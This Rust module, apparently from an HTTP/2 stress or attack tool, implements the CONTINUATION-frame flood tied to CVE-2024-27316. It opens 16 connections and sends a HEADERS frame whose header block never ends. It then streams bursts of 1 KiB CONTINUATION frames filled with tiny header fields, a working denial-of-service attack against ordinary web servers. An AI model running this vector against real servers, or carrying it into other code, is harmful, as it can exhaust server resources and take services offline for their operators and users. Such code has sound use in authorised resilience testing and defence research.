//! `continuation`: a head that goes on and on in CONTINUATION frames

use crate::{
    vectors::{
        Family, Front, Resource, Vector,
        streams::{Manner, Salvo, attack},
    },
    wire::frames::{CONTINUATION, END_STREAM, HEADERS, block, frame},
};

pub(super) const VECTOR: Vector = Vector {
    name: "continuation",
    family: Family::Http2,
    models: "a head that goes on and on in CONTINUATION frames",
    source: "CVE-2024-27316 and its family (Bartek Nowotarski, 2024)",
    parameters: "16 connections; a HEADERS frame without an end, then frames of 1 KiB of fields \
        in writes of 16",
    resource: Resource::Streams,
    room: None,
    attack: |front| Box::pin(attack(front, MANNER)),
};

const MANNER: Manner = Manner { connections: 16, settings: &[], salvo, counts_resets: false };

fn salvo(front: &Front, turn: u32) -> Option<Salvo> {
    if turn == 0 {
        let bytes = frame(HEADERS, END_STREAM, 1, &block(true, "/", &front.scene.host));
        return Some(Salvo { bytes, offers: 1 });
    }
    // One field of a name and a value of a letter each, not to be remembered: 5 bytes.
    let fields = b"\x00\x01a\x01b".repeat(200);
    let bytes = frame(CONTINUATION, 0, 1, &fields).repeat(16);
    Some(Salvo { bytes, offers: 16 })
}
